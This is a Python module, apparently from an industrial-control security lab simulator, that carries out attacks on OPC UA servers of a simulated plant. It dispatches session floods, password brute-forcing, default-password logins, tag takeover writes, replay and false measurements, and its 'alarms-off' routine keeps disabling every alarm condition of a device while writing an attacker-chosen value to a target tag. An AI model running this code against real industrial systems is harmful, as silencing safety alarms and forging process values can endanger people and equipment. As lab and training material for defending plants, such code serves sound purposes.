"""Attacks over OPC UA."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

from labsim.errors import InputError
from labsim.lab.rogue import acts
from labsim.lab.rogue.station import Acts, Station, typed
from labsim.lab.rogue.table import DEVICE, VICTIM
from labsim.plant.tags import Tag
from labsim.probe.access import Access
from labsim.probe.error import ProbeError
from labsim.probe.opcua import OpcuaProbe
from labsim.scenario.opcua import OpcuaSpec

_DISABLE = "i=9028"
"""ConditionType Disable (OPC 10000-9 §5.5.4); it is called on the condition itself."""
_TIMEOUT_S = 5.0


class OpcuaHand:
    """An OPC UA client that knows the nodes of the plant's tags."""

    def __init__(self, station: Station, probe: OpcuaProbe) -> None:
        self._station, self._probe = station, probe

    def read(self, tag: Tag) -> float:
        """See `Hand`."""
        (found,) = self._probe.read([node_of(self._station, tag)])
        return float(found.Value.Value) if found.Value is not None and found.Value.Value is not None else 0.0

    def write(self, tag: Tag, value: float) -> None:
        """See `Hand`."""
        given = typed(tag, value)
        self._probe.write(node_of(self._station, tag), str(given).lower() if isinstance(given, bool) else str(given))


def node_of(station: Station, tag: Tag) -> str:
    """The node id of a tag.

    Raises:
        InputError: the server does not show it.
    """
    found: str = getattr(station.endpoint, "node_of", lambda _path: "")(tag.path)
    if not found:
        raise InputError(f"no node of this endpoint shows {tag.path}.")
    return found


@contextmanager
def _client(station: Station, user: str = "", password: str = "") -> Iterator[OpcuaProbe]:
    assert isinstance(station.spec, OpcuaSpec), "of an OPC UA endpoint"
    plain = ("None", "None") in station.spec.security.offered
    access = Access(policy="None" if plain else "best", plain_password=True, pki=station.certificates)
    uri = f"urn:{station.name}:client"
    with OpcuaProbe(station.target(user, password), access, _TIMEOUT_S, name=station.name, uri=uri) as probe:
        yield probe


@contextmanager
def _hand(station: Station, user: str, password: str) -> Iterator[OpcuaHand]:
    with _client(station, user, password) as probe:
        yield OpcuaHand(station, probe)


def acts_of(station: Station, attack: str) -> Acts:
    """What an attack does."""
    if attack == "session-flood":
        yield from acts.session_flood(station, lambda: _client(station))
    elif attack == "brute-force":
        yield from acts.brute_force(station, lambda user, password: _hand(station, user, password))
    elif attack == "default-password":
        yield from acts.default_password(station, lambda user, password: _hand(station, user, password))
    else:
        as_user = attack in ("takeover", "alarms-off", "safety-change", "false-measurements", "replay")
        user, password = station.account() if as_user or station.text("user") else ("", "")
        with _client(station, user, password) as probe:
            hand = OpcuaHand(station, probe)
            if attack == "alarms-off":
                yield from _alarms_off(station, probe, hand)
            elif attack == "replay":
                yield from acts.replay(station, hand)
            elif attack == "false-measurements":
                yield from acts.false_measurements(station, hand)
            else:
                yield from acts.write(station, hand)


def _alarms_off(station: Station, probe: OpcuaProbe, hand: OpcuaHand) -> Acts:
    """Disable every alarm of a device in each turn, in case somebody has enabled one; then give the command."""
    device = station.text(DEVICE)
    conditions: list[str] = getattr(station.endpoint, "conditions_of", lambda _device: [])(device)
    while True:
        for condition in conditions:
            try:
                probe.call(_DISABLE, [], condition)
            except ProbeError as error:
                if "AlreadyDisabled" not in str(error):
                    raise
        if VICTIM in station.parameters:
            hand.write(station.tag(VICTIM), station.number("value"))
        yield f"disabled {len(conditions)} alarms of {device}"
